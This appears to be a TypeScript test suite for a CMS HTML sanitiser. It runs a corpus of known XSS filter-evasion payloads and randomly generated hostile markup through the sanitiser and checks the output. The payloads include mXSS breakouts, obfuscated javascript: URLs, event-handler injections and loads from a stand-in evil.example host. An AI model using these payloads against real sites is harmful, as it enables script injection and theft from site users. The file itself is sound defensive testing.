import fc from 'fast-check';
import * as parse5 from 'parse5';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_SCHEMES, sanitizeCmsHtml } from './sanitize';

/**
 * Known XSS payloads (OWASP filter-evasion cheat sheet, DOMPurify/mXSS research, and the
 * 2025-2026 sanitize-html advisories) through the CMS policy. The output is parsed the way a
 * browser parses the page it is embedded in (parse5 implements the WHATWG algorithm, foreign
 * content and raw-text elements included), and every element, attribute and URL is checked.
 */

const HTML_NS = 'http://www.w3.org/1999/xhtml';
const SCAFFOLD = new Set(['html', 'head', 'body']);
const ALLOWED = new Set<string>(ALLOWED_TAGS);

const compact = (url: string) => url.replace(/[\u0000-\u0020]+/g, '');
const schemeOf = (url: string) => /^([a-z][a-z0-9+.-]*):/i.exec(compact(url))?.[1]?.toLowerCase();

/** Everything script-capable (or otherwise outside the policy) in `output`, as readable strings. */
function problems(output: string): string[] {
  const found: string[] = [];
  const doc = parse5.parse(`<!DOCTYPE html><html><head></head><body><div>${output}</div></body></html>`);
  const counts = new Map<string, number>();
  const visit = (node: parse5.Node) => {
    if (node.nodeName === '#comment') found.push(`comment ${node.data}`);
    if (node.tagName) {
      const tag = node.tagName;
      counts.set(tag, (counts.get(tag) ?? 0) + 1);
      if (node.namespaceURI !== HTML_NS) found.push(`foreign element ${tag} (${node.namespaceURI})`);
      if (!ALLOWED.has(tag) && !SCAFFOLD.has(tag)) found.push(`element ${tag}`);
      const allowedAttrs = new Set([...(ALLOWED_ATTRIBUTES[tag] ?? []), ...(ALLOWED_ATTRIBUTES['*'] ?? [])]);
      const attrs = new Map((node.attrs ?? []).map((a) => [a.name, a.value]));
      for (const [name, value] of attrs) {
        if (/^on/i.test(name)) found.push(`handler ${tag}[${name}]`);
        // The one attribute the sanitiser adds itself: a wide image's link (linkWideImages).
        else if (!allowedAttrs.has(name) && !(tag === 'a' && name === 'class' && value === 'wide-figure')) found.push(`attribute ${tag}[${name}]`);
        if (name === 'href' || name === 'src') {
          const scheme = schemeOf(value);
          const c = compact(value);
          if (/^[/\\]{2}/.test(c)) found.push(`protocol-relative ${tag}[${name}]=${value}`);
          if (tag === 'img' && scheme) found.push(`absolute image ${value}`);
          if (scheme && !(LINK_SCHEMES as readonly string[]).includes(scheme)) found.push(`scheme ${scheme}: in ${tag}[${name}]`);
        }
      }
      if (tag === 'a' && /^https?:/i.test(compact(attrs.get('href') ?? ''))) {
        const rel = (attrs.get('rel') ?? '').split(/\s+/);
        if (!rel.includes('noopener') || !rel.includes('noreferrer') || attrs.get('target') !== '_blank') found.push(`external link without rel/target: ${attrs.get('href')}`);
      }
      if (tag === 'head' && (node.childNodes ?? []).length > 0) found.push('content hoisted into <head>');
    }
    for (const child of node.childNodes ?? []) visit(child);
    if (node.content) visit(node.content);
  };
  visit(doc);
  for (const tag of SCAFFOLD) if (counts.get(tag) !== 1) found.push(`${tag} appears ${counts.get(tag)} times`);
  return found;
}

const XSS_CORPUS: [string, string][] = [
  // Script elements and their disguises
  ['script', '<script>alert(1)</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['split script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['double angle', '<<script>script>alert(1)<</script>/script>'],
  ['unclosed attr quote', '<img """><script>alert(1)</script>">'],
  ['comment hiding a tag', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['CDATA outside foreign content', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['template', '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>'],
  // sanitize-html advisories
  ['CVE-2026-44990 xmp raw text', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['CVE-2026-44990 xmp closing early', '<xmp></xmp><img src=x onerror=alert(1)>'],
  ['xmp with script', '<xmp><script>alert(1)</script></xmp>'],
  ['svg textarea raw text (< 2.17.6)', '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>'],
  ['math xmp raw text (< 2.17.6)', '<math><xmp><img src=x onerror=alert(1)></xmp></math>'],
  ['math mtext mglyph style mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['svg style mXSS', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['zero-padded decimal entity (< 2.17.2)', '<a href="&#0000106avascript:alert(1)">x</a>'],
  ['option (2.17.2)', '<select><option><img src=x onerror=alert(1)></option></select>'],
  ['option with entity payload', '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>'],
  ['noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['noembed breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['noframes breakout', '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>'],
  ['iframe text breakout', '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'],
  ['textarea breakout', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['title breakout', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
  ['style breakout', '<style><img title="</style><img src=x onerror=alert(1)>"></style>'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  // Event handlers
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror eval(src)', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['body onload', '<body onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['input autofocus', '<input onfocus=alert(1) autofocus>'],
  ['video source onerror', '<video><source onerror=alert(1)></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['handler on allowed tag', '<p onclick="alert(1)" onmouseover="alert(1)">x</p>'],
  ['handler on a link', '<a href="https://ok.example" onclick="alert(1)">x</a>'],
  ['handler with slash separator', '<img/src=x/onerror=alert(1)>'],
  // javascript:, data:, vbscript: URLs with obfuscation
  ['javascript href', '<a href="javascript:alert(1)">x</a>'],
  ['mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['decimal entity', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['hex entity', '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ['entities without semicolons', '<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)">x</a>'],
  ['tab entity', '<a href="java&#x09;script:alert(1)">x</a>'],
  ['named tab entity', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['literal tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['newline entity', '<a href="java&#10;script:alert(1)">x</a>'],
  ['carriage return', '<a href="jav&#x0D;ascript:alert(1)">x</a>'],
  ['leading control char', '<a href=" &#14; javascript:alert(1)">x</a>'],
  ['leading NUL entity', '<a href="&#0;javascript:alert(1)">x</a>'],
  ['named colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['hex colon', '<a href="javascript&#x3A;alert(1)">x</a>'],
  ['unquoted', '<a href=javascript:alert(1)>x</a>'],
  ['data html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['vbscript entity colon', '<a href="VBScript&#58;msgbox(1)">x</a>'],
  ['img javascript', '<img src="javascript:alert(1)">'],
  ['img data svg', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['img http', '<img src="http://evil.example/pixel.png">'],
  ['img https (CSP img-src self)', '<img src="https://evil.example/pixel.png">'],
  ['img protocol-relative', '<img src="//evil.example/pixel.png">'],
  ['link protocol-relative', '<a href="//evil.example">x</a>'],
  ['link slash-backslash', '<a href="/\\evil.example">x</a>'],
  ['link backslashes', '<a href="\\\\evil.example">x</a>'],
  ['srcset', '<img src="/a.png" srcset="javascript:alert(1) 1x, https://evil.example/x.png 2x">'],
  ['svg xlink href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'],
  ['math href', '<math href="javascript:alert(1)">CLICK</math>'],
  ['maction', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['svg animate href', '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>'],
  ['table background', '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>'],
  ['blockquote cite', '<blockquote cite="javascript:alert(1)">x</blockquote>'],
  // Styles
  ['style attribute url', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['style expression', '<p style="width:expression(alert(1))">x</p>'],
  ['style behavior', '<p style="behavior:url(x.htc)">x</p>'],
  ['style overlay', '<div style="position:fixed;inset:0;z-index:9999">click</div>'],
  ['style element import', "<style>@import 'https://evil.example/x.css';</style>"],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  // Frames, objects, forms, document-level elements
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['object data html', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['applet', '<applet code="x.class"></applet>'],
  ['form action', '<form action="javascript:alert(1)"><input type="submit"></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['isindex', '<isindex action="javascript:alert(1)" type="submit">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="https://evil.example/">'],
  ['html boundary', '<html><head><base href="https://evil.example/"></head><body><p>x</p></body></html>'],
  // Tab-nabbing and DOM clobbering
  ['target without rel', '<a href="https://ok.example" target="_self" rel="opener">x</a>'],
  ['obfuscated external link keeps rel', '<a href=" ht&#x09;tps://ok.example">x</a>'],
  ['DOM clobbering id/name', '<a id="defaultView" name="cookie">x</a><img name="getElementById" src="/a.png">'],
  ['class and data attributes', '<p class="admin" data-x="1" aria-hidden="true">x</p>'],
];

describe('sanitizeCmsHtml against an XSS corpus', () => {
  test(`the corpus holds ${XSS_CORPUS.length} payloads`, () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(50);
  });

  test.each(XSS_CORPUS)('%s: no bypass', (_name, payload) => {
    const output = sanitizeCmsHtml(payload);
    expect(problems(output)).toEqual([]);
    expect(sanitizeCmsHtml(output)).toBe(output);
  });

  test('the checker itself sees what the payloads would do unsanitised', () => {
    const raw = XSS_CORPUS.filter(([, payload]) => problems(payload).length > 0).length;
    // A few payloads are only dangerous through a sanitiser's re-emission (e.g. option text).
    expect(raw).toBeGreaterThanOrEqual(XSS_CORPUS.length - 3);
  });

  test('specific outcomes of the advisories', () => {
    expect(sanitizeCmsHtml('<xmp><img src=x onerror=alert(1)></xmp>')).toBe('');
    expect(sanitizeCmsHtml('<svg><textarea><img src=x onerror=alert(1)></textarea></svg>')).toBe('');
    expect(sanitizeCmsHtml('<math><xmp><img src=x onerror=alert(1)></xmp></math>')).toBe('');
    expect(sanitizeCmsHtml('<a href="&#0000106avascript:alert(1)">x</a>')).toBe('<a>x</a>');
    expect(sanitizeCmsHtml('<img src="https://evil.example/pixel.png" alt="x">')).toBe('');
    expect(sanitizeCmsHtml('<a href=" ht&#x09;tps://ok.example">x</a>')).toMatch(/rel="noopener noreferrer"/);
  });

  test('legitimate CMS markup survives', () => {
    const article =
      '<h2>Outlook</h2><p>See <a href="https://www.iea.org/reports">the IEA</a>, <a href="http://example.org/a">an old site</a>, ' +
      '<a href="/insights">our insights</a>, <a href="mailto:info@example.com">mail</a> or <a href="tel:+441234">call</a>.</p>' +
      '<figure><img src="/images/blogs/charts/a.svg" alt="Chart" width="960" height="420"><figcaption>Source</figcaption></figure>' +
      '<table><thead><tr><th scope="col" colspan="2">Region</th></tr></thead><tbody><tr><td rowspan="2">EU</td></tr></tbody></table>' +
      '<ol start="3" reversed><li lang="de" dir="ltr">Drei</li></ol>';
    const output = sanitizeCmsHtml(article);
    expect(problems(output)).toEqual([]);
    expect(output).toContain('<a href="https://www.iea.org/reports" target="_blank" rel="noopener noreferrer">the IEA</a>');
    expect(output).toContain('<a href="http://example.org/a" target="_blank" rel="noopener noreferrer">an old site</a>');
    expect(output).toContain('<a href="/insights">our insights</a>');
    expect(output).toContain('<a href="mailto:info@example.com">mail</a>');
    expect(output).toContain('<a href="tel:+441234">call</a>');
    expect(output).toContain('<img src="/images/blogs/charts/a.svg" alt="Chart" width="960" height="420" loading="lazy" decoding="async" />');
    expect(output).toContain('<th scope="col" colspan="2">Region</th>');
    expect(output).toContain('<ol start="3" reversed><li lang="de" dir="ltr">Drei</li></ol>');
  });
});

// Generated HTML: random trees of allowed and dangerous tags, attributes and obfuscated URLs.
const URL_BASES = [
  'javascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', '//evil.example/x', '/\\evil.example',
  'https://ok.example/a', 'http://ok.example/', '/local/path', 'mailto:a@example.com', 'tel:+1', 'x-unknown:thing', 'livescript:x',
];
const OBFUSCATIONS = ['dec', 'hex', 'pad', 'tab', 'nl', 'nul', 'ctl', 'upper', 'space'] as const;

function obfuscate(base: string, ops: [number, (typeof OBFUSCATIONS)[number]][]): string {
  let chars = [...base].map((c) => c.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;'));
  for (const [at, op] of ops) {
    const i = at % Math.max(1, chars.length);
    const c = base[i] ?? 'a';
    const code = c.charCodeAt(0);
    const replacement = {
      dec: `&#${code};`,
      hex: `&#x${code.toString(16)};`,
      pad: `&#00000${code}`,
      tab: `&#9;${chars[i]}`,
      nl: `\n${chars[i]}`,
      nul: `&#0;${chars[i]}`,
      ctl: `&#${(at % 31) + 1};${chars[i]}`,
      upper: (chars[i] ?? '').toUpperCase(),
      space: ` ${chars[i]}`,
    }[op];
    chars = [...chars.slice(0, i), replacement, ...chars.slice(i + 1)];
  }
  return chars.join('');
}

const TAGS = [...ALLOWED_TAGS, 'script', 'style', 'svg', 'math', 'xmp', 'textarea', 'noscript', 'iframe', 'object', 'embed', 'form', 'button', 'input', 'base', 'meta', 'link', 'template', 'select', 'option', 'title', 'mglyph', 'mtext', 'foreignObject', 'desc', 'noembed', 'frameset', 'body', 'html'];
const ATTRS = ['href', 'src', 'srcset', 'style', 'onerror', 'onload', 'onclick', 'ONMOUSEOVER', 'formaction', 'action', 'xlink:href', 'id', 'name', 'class', 'target', 'rel', 'background', 'data', 'poster', 'cite', 'alt', 'title', 'lang', 'http-equiv', 'content'];

const urlValue = fc
  .tuple(fc.constantFrom(...URL_BASES), fc.array(fc.tuple(fc.nat(60), fc.constantFrom(...OBFUSCATIONS)), { maxLength: 5 }))
  .map(([base, ops]) => obfuscate(base, ops));
const attribute = fc.tuple(fc.constantFrom(...ATTRS), fc.oneof(urlValue, fc.constantFrom('alert(1)', 'x" onerror="alert(1)', '</textarea><img src=x onerror=alert(1)>', '')));
const text = fc.constantFrom('text', '&lt;script&gt;', '<', '&', '</xmp>', '</noscript>', '-->', '<!--', ']]>', '"><img src=x onerror=alert(1)>', '&#60;img src=x onerror=alert(1)&#62;');

const { node } = fc.letrec<{ node: string }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    text,
    fc
      .tuple(fc.constantFrom(...TAGS), fc.array(attribute, { maxLength: 3 }), fc.array(tie('node'), { maxLength: 3 }), fc.boolean())
      .map(([tag, attrs, children, close]) => {
        const attributes = attrs.map(([name, value]) => ` ${name}="${value}"`).join('');
        return `<${tag}${attributes}>${children.join('')}${close ? `</${tag}>` : ''}`;
      }),
  ),
}));

describe('sanitizeCmsHtml on generated hostile HTML', () => {
  // Not idempotence: sanitize-html keeps some mis-nesting (<h2><h2>) that a second parse
  // normalises; what matters is what a browser builds from the output.
  test('1,000 random documents: no script-capable construct survives, even sanitised twice', () => {
    fc.assert(
      fc.property(fc.array(node, { minLength: 1, maxLength: 4 }), (parts) => {
        const output = sanitizeCmsHtml(parts.join(''));
        expect(problems(output)).toEqual([]);
        expect(problems(sanitizeCmsHtml(output))).toEqual([]);
      }),
      { numRuns: 1000, seed: 20261121 },
    );
  });
});
